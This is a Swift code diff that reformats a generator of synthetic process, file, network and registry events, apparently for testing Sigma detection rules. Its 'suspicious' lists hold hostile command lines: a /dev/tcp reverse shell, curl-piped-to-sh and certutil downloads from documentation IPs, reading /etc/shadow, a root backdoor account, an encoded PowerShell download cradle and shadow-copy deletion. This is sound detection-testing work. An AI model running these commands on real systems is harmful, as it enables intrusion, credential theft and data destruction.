@@ -11,27 +11,39 @@ public enum SigmaEventMix {
     /// suspicious command lines taken from common attack tooling.
     public static func events(count: Int, windows: Bool = false) -> [Event] {
         var rng = SplitMix64(seed: 42)
-        let linuxBins = ["/usr/bin/ls", "/usr/bin/git", "/usr/bin/python3", "/usr/bin/bash", "/usr/bin/grep", "/usr/sbin/sshd",
-                         "/usr/bin/systemctl", "/usr/bin/cat", "/usr/bin/awk", "/usr/bin/sed", "/usr/lib/systemd/systemd-journald",
-                         "/usr/bin/node", "/usr/bin/dpkg", "/usr/bin/apt-get", "/usr/bin/curl", "/usr/bin/tar", "/usr/bin/find"]
-        let linuxArgs = ["-la /var/log", "status nginx.service", "-c 'import sys; print(sys.version)'", "--version",
-                         "-rn TODO src/", "commit -m 'fix build'", "-xzf release.tar.gz -C /opt/app", "/etc/hosts",
-                         "-fsSL https://example.com/index.html -o /tmp/index.html", "/home/user -name '*.log' -mtime +7",
-                         "'{print $1}' /var/log/syslog", "-i 's/foo/bar/g' config.ini", "install -y jq", "-l"]
-        let suspicious = ["bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", "curl http://198.51.100.7/x.sh | sh",
-                          "base64 -d /tmp/payload | bash", "chmod +s /bin/bash", "crontab -r", "nc -e /bin/sh 10.1.1.1 9001",
-                          "cat /etc/shadow", "wget http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k", "history -c",
-                          "iptables -F", "setenforce 0", "useradd -o -u 0 backdoor"]
-        let winBins = ["C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
-                       "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                       "C:\\Windows\\System32\\conhost.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-                       "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\taskhostw.exe"]
-        let winArgs = ["-k netsvcs -p -s Schedule", "/c dir C:\\Users", "-NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
-                       "--type=renderer --lang=en-US", "0xffffffff -ForceV1", "/n C:\\Users\\bob\\Documents\\report.docx",
-                       "shell32.dll,Control_RunDLL", "-Embedding"]
-        let winSusp = ["powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
-                       "cmd.exe /c vssadmin delete shadows /all /quiet", "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer",
-                       "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe", "whoami /priv"]
+        let linuxBins = [
+            "/usr/bin/ls", "/usr/bin/git", "/usr/bin/python3", "/usr/bin/bash", "/usr/bin/grep", "/usr/sbin/sshd",
+            "/usr/bin/systemctl", "/usr/bin/cat", "/usr/bin/awk", "/usr/bin/sed", "/usr/lib/systemd/systemd-journald",
+            "/usr/bin/node", "/usr/bin/dpkg", "/usr/bin/apt-get", "/usr/bin/curl", "/usr/bin/tar", "/usr/bin/find"
+        ]
+        let linuxArgs = [
+            "-la /var/log", "status nginx.service", "-c 'import sys; print(sys.version)'", "--version",
+            "-rn TODO src/", "commit -m 'fix build'", "-xzf release.tar.gz -C /opt/app", "/etc/hosts",
+            "-fsSL https://example.com/index.html -o /tmp/index.html", "/home/user -name '*.log' -mtime +7",
+            "'{print $1}' /var/log/syslog", "-i 's/foo/bar/g' config.ini", "install -y jq", "-l"
+        ]
+        let suspicious = [
+            "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1", "curl http://198.51.100.7/x.sh | sh",
+            "base64 -d /tmp/payload | bash", "chmod +s /bin/bash", "crontab -r", "nc -e /bin/sh 10.1.1.1 9001",
+            "cat /etc/shadow", "wget http://203.0.113.9/k -O /tmp/k; chmod +x /tmp/k", "history -c",
+            "iptables -F", "setenforce 0", "useradd -o -u 0 backdoor"
+        ]
+        let winBins = [
+            "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            "C:\\Windows\\System32\\cmd.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "C:\\Windows\\System32\\conhost.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            "C:\\Windows\\System32\\rundll32.exe", "C:\\Windows\\System32\\taskhostw.exe"
+        ]
+        let winArgs = [
+            "-k netsvcs -p -s Schedule", "/c dir C:\\Users", "-NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
+            "--type=renderer --lang=en-US", "0xffffffff -ForceV1", "/n C:\\Users\\bob\\Documents\\report.docx",
+            "shell32.dll,Control_RunDLL", "-Embedding"
+        ]
+        let winSusp = [
+            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
+            "cmd.exe /c vssadmin delete shadows /all /quiet", "rundll32.exe C:\\Users\\Public\\x.dll,DllRegisterServer",
+            "certutil -urlcache -split -f http://198.51.100.7/a.exe a.exe", "whoami /priv"
+        ]
         var out: [Event] = []
         out.reserveCapacity(count)
         var ts = 1_760_000_000.0
@@ -42,50 +54,73 @@ public enum SigmaEventMix {
             let susp = rng.next() % 50 == 0
             if r < 55 {
                 let img = linuxBins[Int(rng.next() % UInt64(linuxBins.count))]
-                let cmd = susp ? suspicious[Int(rng.next() % UInt64(suspicious.count))] : "\((img as NSString).lastPathComponent) \(linuxArgs[Int(rng.next() % UInt64(linuxArgs.count))])"
+                let cmd =
+                    susp
+                    ? suspicious[Int(rng.next() % UInt64(suspicious.count))]
+                    : "\((img as NSString).lastPathComponent) \(linuxArgs[Int(rng.next() % UInt64(linuxArgs.count))])"
                 let parent = rng.next() % 3 == 0 ? "/usr/bin/bash" : "/usr/lib/systemd/systemd"
-                out.append(Event(logsource: LogSource(product: "linux", category: "process_creation"), timestamp: ts, fields: [
-                    ("ProcessId", .int(Int64(1000 + rng.next() % 30000))), ("Image", .string(img)), ("CommandLine", .string(cmd)),
-                    ("CurrentDirectory", "/home/user"), ("User", .string(rng.next() % 4 == 0 ? "root" : "user")), ("LogonId", .int(1000)),
-                    ("ParentProcessId", .int(Int64(1 + rng.next() % 3000))), ("ParentImage", .string(parent)),
-                    ("ParentCommandLine", .string(parent == "/usr/bin/bash" ? "-bash" : "/sbin/init")),
-                ]))
+                out.append(
+                    Event(
+                        logsource: LogSource(product: "linux", category: "process_creation"), timestamp: ts,
+                        fields: [
+                            ("ProcessId", .int(Int64(1000 + rng.next() % 30000))), ("Image", .string(img)), ("CommandLine", .string(cmd)),
+                            ("CurrentDirectory", "/home/user"), ("User", .string(rng.next() % 4 == 0 ? "root" : "user")), ("LogonId", .int(1000)),
+                            ("ParentProcessId", .int(Int64(1 + rng.next() % 3000))), ("ParentImage", .string(parent)),
+                            ("ParentCommandLine", .string(parent == "/usr/bin/bash" ? "-bash" : "/sbin/init"))
+                        ]))
             } else if r < 70 {
-                let files = ["/tmp/tmp.\(rng.next() % 10000)", "/home/user/.cache/pip/x\(rng.next() % 100).whl", "/var/log/syslog",
-                             "/etc/cron.d/backup", "/home/user/.bashrc", "/var/lib/dpkg/status", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libfoo.so"]
-                out.append(Event(logsource: LogSource(product: "linux", category: "file_event"), timestamp: ts, fields: [
-                    ("TargetFilename", .string(files[Int(rng.next() % UInt64(susp ? files.count : 6))])),
-                    ("Image", .string(linuxBins[Int(rng.next() % UInt64(linuxBins.count))])), ("ProcessId", .int(4242)), ("User", "user"),
-                ]))
+                let files = [
+                    "/tmp/tmp.\(rng.next() % 10000)", "/home/user/.cache/pip/x\(rng.next() % 100).whl", "/var/log/syslog",
+                    "/etc/cron.d/backup", "/home/user/.bashrc", "/var/lib/dpkg/status", "/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libfoo.so"
+                ]
+                out.append(
+                    Event(
+                        logsource: LogSource(product: "linux", category: "file_event"), timestamp: ts,
+                        fields: [
+                            ("TargetFilename", .string(files[Int(rng.next() % UInt64(susp ? files.count : 6))])),
+                            ("Image", .string(linuxBins[Int(rng.next() % UInt64(linuxBins.count))])), ("ProcessId", .int(4242)), ("User", "user")
+                        ]))
             } else if r < 80 {
-                out.append(Event(logsource: LogSource(product: "linux", category: "network_connection"), timestamp: ts, fields: [
-                    ("Image", .string(linuxBins[Int(rng.next() % UInt64(linuxBins.count))])), ("Initiated", "true"),
-                    ("SourceIp", "192.168.1.20"), ("SourcePort", .int(Int64(30000 + rng.next() % 20000))),
-                    ("DestinationIp", .string("93.184.216.\(rng.next() % 255)")), ("DestinationPort", .int(rng.next() % 5 == 0 ? 4444 : 443)),
-                    ("DestinationHostname", "example.com"), ("Protocol", "tcp"),
-                ]))
+                out.append(
+                    Event(
+                        logsource: LogSource(product: "linux", category: "network_connection"), timestamp: ts,
+                        fields: [
+                            ("Image", .string(linuxBins[Int(rng.next() % UInt64(linuxBins.count))])), ("Initiated", "true"),
+                            ("SourceIp", "192.168.1.20"), ("SourcePort", .int(Int64(30000 + rng.next() % 20000))),
+                            ("DestinationIp", .string("93.184.216.\(rng.next() % 255)")), ("DestinationPort", .int(rng.next() % 5 == 0 ? 4444 : 443)),
+                            ("DestinationHostname", "example.com"), ("Protocol", "tcp")
+                        ]))
             } else if r < 92 {
                 let img = winBins[Int(rng.next() % UInt64(winBins.count))]
                 let cmd = susp ? winSusp[Int(rng.next() % UInt64(winSusp.count))] : "\"\(img)\" \(winArgs[Int(rng.next() % UInt64(winArgs.count))])"
-                out.append(Event(logsource: LogSource(product: "windows", category: "process_creation"), timestamp: ts, fields: [
-                    ("EventID", .int(1)), ("Image", .string(img)), ("CommandLine", .string(cmd)),
-                    ("OriginalFileName", .string((img as NSString).lastPathComponent.uppercased())),
-                    ("ParentImage", "C:\\Windows\\explorer.exe"), ("ParentCommandLine", "C:\\Windows\\Explorer.EXE"),
-                    ("User", "CORP\\bob"), ("IntegrityLevel", "Medium"), ("CurrentDirectory", "C:\\Users\\bob\\"),
-                    ("Hashes", "SHA256=9F2B2E3A0C5B1E7D4C6A8B0D2E4F6A8C0E2D4B6A8C0E2F4A6B8C0D2E4F6A8B0C"),
-                    ("Company", "Microsoft Corporation"), ("Product", "Microsoft® Windows® Operating System"), ("Description", "Windows host process"),
-                ]))
+                out.append(
+                    Event(
+                        logsource: LogSource(product: "windows", category: "process_creation"), timestamp: ts,
+                        fields: [
+                            ("EventID", .int(1)), ("Image", .string(img)), ("CommandLine", .string(cmd)),
+                            ("OriginalFileName", .string((img as NSString).lastPathComponent.uppercased())),
+                            ("ParentImage", "C:\\Windows\\explorer.exe"), ("ParentCommandLine", "C:\\Windows\\Explorer.EXE"),
+                            ("User", "CORP\\bob"), ("IntegrityLevel", "Medium"), ("CurrentDirectory", "C:\\Users\\bob\\"),
+                            ("Hashes", "SHA256=9F2B2E3A0C5B1E7D4C6A8B0D2E4F6A8C0E2D4B6A8C0E2F4A6B8C0D2E4F6A8B0C"),
+                            ("Company", "Microsoft Corporation"), ("Product", "Microsoft® Windows® Operating System"), ("Description", "Windows host process")
+                        ]))
             } else if r < 96 {
-                out.append(Event(logsource: LogSource(product: "windows", category: "registry_set"), timestamp: ts, fields: [
-                    ("EventID", .int(13)), ("EventType", "SetValue"),
-                    ("TargetObject", .string("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater\(rng.next() % 10)")),
-                    ("Details", "C:\\Program Files\\Updater\\upd.exe"), ("Image", .string(winBins[Int(rng.next() % UInt64(winBins.count))])),
-                ]))
+                out.append(
+                    Event(
+                        logsource: LogSource(product: "windows", category: "registry_set"), timestamp: ts,
+                        fields: [
+                            ("EventID", .int(13)), ("EventType", "SetValue"),
+                            ("TargetObject", .string("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater\(rng.next() % 10)")),
+                            ("Details", "C:\\Program Files\\Updater\\upd.exe"), ("Image", .string(winBins[Int(rng.next() % UInt64(winBins.count))]))
+                        ]))
             } else {
-                out.append(Event(logsource: LogSource(product: "windows", category: "file_event"), timestamp: ts, fields: [
-                    ("EventID", .int(11)), ("TargetFilename", .string("C:\\Users\\bob\\AppData\\Local\\Temp\\tmp\(rng.next() % 1000).tmp")),
-                    ("Image", .string(winBins[Int(rng.next() % UInt64(winBins.count))])),
-                ]))
+                out.append(
+                    Event(
+                        logsource: LogSource(product: "windows", category: "file_event"), timestamp: ts,
+                        fields: [
+                            ("EventID", .int(11)), ("TargetFilename", .string("C:\\Users\\bob\\AppData\\Local\\Temp\\tmp\(rng.next() % 1000).tmp")),
+                            ("Image", .string(winBins[Int(rng.next() % UInt64(winBins.count))]))
+                        ]))
             }
         }
         return out
